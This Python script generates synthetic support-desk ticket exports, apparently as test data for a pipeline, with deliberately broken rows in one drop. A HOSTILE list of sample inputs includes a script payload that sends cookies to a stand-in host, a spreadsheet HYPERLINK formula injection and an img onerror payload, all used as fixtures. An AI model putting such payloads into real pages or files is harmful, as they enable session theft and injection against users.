"""Four monthly data drops of a made-up support desk, the same bytes for the same seed.

    python pipelines/demo/drops.py DIR N [--rows ROWS] [--seed SEED]

writes drop N into DIR, beside the drops before it, as a desk's monthly exports arrive:

    1  2026-09.csv             e-mail only: enough for a first model
    2  2026-10.jsonl           a new ticket system: e-mail and chat, some rows empty as in any export
       2026-10-phone.csv.gz    and the transcripts of the telephone provider
    3  2026-11.jsonl           a broken export: nulls, unknown intents, two encodings in one file, contradicting duplicates
    4                          the broken file is withdrawn, nothing else arrived

Tickets come from the grammar in phrases.toml. A ticket is a pure function of seed, drop and place in the drop; texts do not
repeat across drops, so that a held-out row has no twin among the training rows.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import random
import re
import tomllib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import asdict, astuple, dataclass, fields, replace
from datetime import datetime, timedelta
from pathlib import Path

PHRASES = tomllib.loads(Path(__file__).with_name("phrases.toml").read_text("utf-8"))
INTENTS: tuple[str, ...] = tuple(PHRASES["intents"])
SEED = 17

# Tickets per channel, the shares of each drop; e-mail alone at first, so that October's chats and calls are news to the first model.
PLAN: dict[int, dict[str, int]] = {
    1: {"e-mail": 430},
    2: {"e-mail": 50, "chat": 310, "phone": 240},
    3: {"e-mail": 90, "chat": 120, "phone": 50},
}
MONTHS = {1: datetime(2026, 9, 1), 2: datetime(2026, 10, 1), 3: datetime(2026, 11, 1)}
VOICE = {"e-mail": "mail", "chat": "chat", "phone": "phone"}
# The chance of another matter before the ticket's own, and again after it.
ASIDES = {"mail": 0.2, "chat": 0.16, "phone": 0.08}

# What people confuse: the matter that a customer most likely mentions beside the one that the ticket is about.
NEIGHBOUR = {
    "order_status": "parcel_lost",
    "parcel_lost": "order_status",
    "cancel_order": "change_order",
    "change_order": "cancel_order",
    "return_item": "refund_status",
    "refund_status": "return_item",
    "wrong_charge": "payment_declined",
    "payment_declined": "wrong_charge",
    "invoice_request": "wrong_charge",
    "damaged_item": "wrong_item",
    "wrong_item": "damaged_item",
    "login_problem": "close_account",
    "close_account": "cancel_membership",
    "cancel_membership": "close_account",
}
MISFILED = 0.015  # share of tickets that a tired colleague filed under the neighbouring intent
UNKNOWN_INTENTS = ("misc", "refund_staus", "Order Status", "TODO", "gift_card", "0", "spam?")
HOSTILE = (
    "<script>fetch('https://evil.example/?c='+document.cookie)</script> my parcel is late",
    '=HYPERLINK("https://evil.example","your refund")',
    "+49 30 1234567 call me back @once",
    "<img src=x onerror=alert(1)> where is my order",
    "order status \x1b[31mURGENT\x1b[0m please",
)


@dataclass(frozen=True)
class Ticket:
    """One row of an export; None where the export left the cell empty."""

    ticket: str
    opened: str
    channel: str
    body: str | None
    intent: str | None


COLUMNS = tuple(field.name for field in fields(Ticket))


# --- the grammar ------------------------------------------------------------------------------------------------------

INNERMOST = re.compile(r"\[([^\[\]]*)\]")
SLOT = re.compile(r"\{(\w+)\}")


class Writer:
    """Draws texts from the grammar with one generator of random numbers."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def expand(self, phrase: str) -> str:
        """The phrase with one of each [a|b] chosen and every {slot} filled."""
        while INNERMOST.search(phrase):
            phrase = INNERMOST.sub(lambda match: self.rng.choice(match[1].split("|")), phrase)
        filled: set[str] = set()
        return SLOT.sub(lambda match: self.slot(match[1], filled), phrase)

    def slot(self, name: str, filled: set[str]) -> str:
        """A value for the slot that the phrase does not hold yet: nobody swaps size 40 for size 40."""
        while (value := self.draw(name)) in filled:
            pass
        filled.add(value)
        return value

    def draw(self, name: str) -> str:
        rng = self.rng
        drawn: dict[str, Callable[[], str]] = {
            "order": lambda: f"FH-{rng.randrange(10**5, 10**6)}",
            "amount": lambda: f"{rng.randrange(9, 320)}.{rng.choice(('00', '50', '90', '95', '99'))} €",
            "code": lambda: rng.choice(("TRAIL", "AUTUMN", "HIKE", "WELCOME")) + str(rng.choice((5, 10, 15, 20))),
        }
        return drawn[name]() if name in drawn else rng.choice(PHRASES["slots"][name])

    def pick(self, voice: str, part: str, chance: float) -> str:
        """A filled phrase of the channel's wrapping, or nothing."""
        return self.expand(self.rng.choice(PHRASES[voice][part])) if self.rng.random() < chance else ""

    def aside(self, voice: str, intent: str) -> str:
        """A settled matter, mentioned in passing: most often the one that is easily confused with the ticket's own."""
        others = [other for other in INTENTS if other != intent]
        other = NEIGHBOUR[intent] if self.rng.random() < 0.6 else self.rng.choice(others)
        if self.rng.random() < 0.5:
            wrapper, passing = (
                self.rng.choice(PHRASES[voice]["aside"]),
                self.rng.choice(PHRASES["intents"][other]["aside"]),
            )
        else:
            wrapper, passing = (
                self.rng.choice(PHRASES[voice]["quote"]),
                self.rng.choice(PHRASES["intents"][other][voice]),
            )
        return self.expand(wrapper.replace("{aside}", passing).replace("{core}", passing))

    def body(self, channel: str, intent: str) -> str:
        voice = VOICE[channel]
        core = self.expand(self.rng.choice(PHRASES["intents"][intent][voice]))
        before = self.aside(voice, intent) if self.rng.random() < ASIDES[voice] else ""
        after = self.aside(voice, intent) if not before and self.rng.random() < ASIDES[voice] else ""
        return {"mail": self.mail, "chat": self.chat, "phone": self.phone}[voice](core, before, after)

    def mail(self, core: str, before: str, after: str) -> str:
        sentences = (self.pick("mail", "opener", 0.2), before, core, self.pick("mail", "detail", 0.2), after)
        text = " ".join(sentence[0].upper() + sentence[1:] for sentence in sentences if sentence)
        return "\n".join(filter(None, (self.pick("mail", "greeting", 0.5), text, self.pick("mail", "close", 0.4))))

    def chat(self, core: str, before: str, after: str) -> str:
        parts = (self.pick("chat", "opener", 0.4), before, core, self.pick("chat", "detail", 0.25), after)
        text = self.rng.choice((" ", ", ", "\n", " ... ")).join(filter(None, (*parts, self.pick("chat", "close", 0.3))))
        return re.sub(r"\w{4,}", lambda match: self.typo(match[0]), text.lower())

    def phone(self, core: str, before: str, after: str) -> str:
        parts = (
            self.pick("phone", "opener", 0.4),
            before,
            self.hesitate(core),
            self.pick("phone", "detail", 0.2),
            after,
        )
        text = " ".join(filter(None, (*parts, self.pick("phone", "close", 0.3))))
        return re.sub(r"fh-(\d+)", lambda match: "f h " + " ".join(match[1]), text.lower().replace(",", ""))

    def hesitate(self, text: str) -> str:
        words = text.split(" ")
        for _ in range(self.rng.randrange(2)):
            words.insert(self.rng.randrange(len(words)), self.pick("phone", "filler", 1.0))
        return " ".join(words)

    def typo(self, word: str) -> str:
        """Now and then two letters swapped, one lost or one doubled, for a word of at least four."""
        if self.rng.random() > 0.08:
            return word
        at = self.rng.randrange(1, len(word) - 1)
        first, second = word[at], word[at + 1]
        return word[:at] + self.rng.choice((second + first, second, first + first + second)) + word[at + 2 :]


# --- clean tickets ----------------------------------------------------------------------------------------------------


def normalised(text: str) -> str:
    return " ".join(text.casefold().split())


def channel_plan(drop: int, rows: int | None) -> dict[str, int]:
    """Tickets per channel; `rows` keeps the drop's shares."""
    plan = PLAN[drop]
    total = sum(plan.values())
    return plan if rows is None else {channel: max(1, round(rows * share / total)) for channel, share in plan.items()}


def clean_tickets(drop: int, seed: int = SEED, rows: int | None = None) -> Iterator[Ticket]:
    """The drop's good tickets in the order in which they were opened, intents and channels mixed."""
    channels = [channel for channel, count in channel_plan(drop, rows).items() for _ in range(count)]
    random.Random(f"{seed}/{drop}/channels").shuffle(channels)
    step = timedelta(days=28) / len(channels)
    seen: set[str] = set() if drop == 1 else earlier_texts(drop, seed)
    for n, channel in enumerate(channels):
        writer = Writer(random.Random(f"{seed}/{drop}/{n}"))
        intent = writer.rng.choice(INTENTS)
        body = unique(writer, channel, intent, seen)
        filed = NEIGHBOUR[intent] if writer.rng.random() < MISFILED else intent
        opened = MONTHS[drop] + n * step
        yield Ticket(f"T-{opened:%y%m}{n:05d}", f"{opened:%Y-%m-%dT%H:%M}", channel, body, filed)


def unique(writer: Writer, channel: str, intent: str, seen: set[str]) -> str:
    """A text that was not written before; after fifty tries a repeat, as a large desk sees them."""
    for _ in range(50):
        body = writer.body(channel, intent)
        if normalised(body) not in seen:
            break
    seen.add(normalised(body))
    return body


def earlier_texts(drop: int, seed: int) -> set[str]:
    return {normalised(ticket.body or "") for before in range(1, drop) for ticket in clean_tickets(before, seed)}


# --- bad tickets ------------------------------------------------------------------------------------------------------


def with_holes(tickets: list[Ticket]) -> list[Ticket]:
    """A few rows without a text or an intent, as in any export: far fewer than the gate lets through."""
    holes = {
        len(tickets) // 5: "body",
        len(tickets) // 3: "intent",
        len(tickets) // 2: "body",
        len(tickets) * 4 // 5: "intent",
    }
    return [replace(ticket, **{holes[n]: None}) if n in holes else ticket for n, ticket in enumerate(tickets)]


def broken(tickets: list[Ticket], seed: int) -> Iterator[tuple[Ticket, str]]:
    """The drop's tickets with every fault of a bad export, each with the encoding that its line is written in."""
    rng = random.Random(f"{seed}/faults")
    for n, ticket in enumerate(tickets):
        fault = n % 12
        if fault == 1:
            yield replace(ticket, body=None if n % 24 == 1 else "  "), "utf-8"
        elif fault == 3:
            yield replace(ticket, intent=None), "utf-8"
        elif fault == 5:
            yield replace(ticket, intent=rng.choice(UNKNOWN_INTENTS)), "utf-8"
        elif fault == 7:
            yield replace(ticket, body=f"Grüße aus Zürich! {ticket.body}"), "cp1252"
        elif fault == 9:
            # What a program makes of UTF-8 that it takes for Western European.
            greeted = f"Grüße aus Zürich! {ticket.body}"
            yield replace(ticket, body=greeted.encode().decode("latin-1")), "utf-8"
        elif fault == 10:
            yield ticket, "utf-8"
            yield replace(ticket, ticket=f"{ticket.ticket}-2", intent=NEIGHBOUR[ticket.intent or ""]), "utf-8"
        elif fault == 11 and n % 5 == 0:
            yield replace(ticket, body=rng.choice(HOSTILE), intent="<b>order_status</b>"), "utf-8"
        else:
            yield ticket, "utf-8"


# --- files ------------------------------------------------------------------------------------------------------------


def csv_line(cells: tuple[str | None, ...]) -> str:
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(["" if cell is None else cell for cell in cells])
    return line.getvalue()


def csv_bytes(tickets: Iterable[Ticket]) -> bytes:
    return (csv_line(COLUMNS) + "".join(csv_line(astuple(ticket)) for ticket in tickets)).encode()


def jsonl_bytes(tickets: Iterable[tuple[Ticket, str]]) -> bytes:
    """A JSON object per line, each in its own encoding."""
    return b"".join(
        json.dumps(asdict(ticket), ensure_ascii=False).encode(encoding, "replace") + b"\n"
        for ticket, encoding in tickets
    )


def drop_files(number: int, seed: int = SEED, rows: int | None = None) -> dict[str, bytes | None]:
    """File name → contents of the drop; None is a file that is withdrawn."""
    if number == 4:
        return {"2026-11.jsonl": None}
    tickets = list(clean_tickets(number, seed, rows))
    if number == 1:
        return {"2026-09.csv": csv_bytes(tickets)}
    if number == 3:
        return {"2026-11.jsonl": jsonl_bytes(broken(tickets, seed))}
    written = with_holes([ticket for ticket in tickets if ticket.channel != "phone"])
    calls = csv_bytes([ticket for ticket in tickets if ticket.channel == "phone"])
    # mtime=0: gzip puts the time into its header, and the same drop is to be the same bytes.
    return {
        "2026-10.jsonl": jsonl_bytes((ticket, "utf-8") for ticket in written),
        "2026-10-phone.csv.gz": gzip.compress(calls, mtime=0),
    }


def write_drop(folder: Path, number: int, seed: int = SEED, rows: int | None = None) -> list[Path]:
    """Writes drop 1, 2 or 3 into `folder`, or applies drop 4 to it; the paths written or withdrawn."""
    folder.mkdir(parents=True, exist_ok=True)
    files = drop_files(number, seed, rows)
    for name, content in files.items():
        if content is None:
            (folder / name).unlink(missing_ok=True)
        else:
            (folder / name).write_bytes(content)
    return [folder / name for name in files]


def main() -> None:
    parser = argparse.ArgumentParser(description="Write a data drop of the demo's support desk.", allow_abbrev=False)
    parser.add_argument("folder", type=Path, metavar="DIR")
    parser.add_argument("drop", type=int, choices=(1, 2, 3, 4), metavar="N", help="1 to 4")
    parser.add_argument("--rows", type=int, help="tickets of this drop instead of the demo's number, for benchmarks")
    parser.add_argument("--seed", type=int, default=SEED)
    options = parser.parse_args()
    for path in write_drop(options.folder, options.drop, options.seed, options.rows):
        print(f"{'wrote' if path.exists() else 'withdrew'} {path}")


if __name__ == "__main__":
    main()
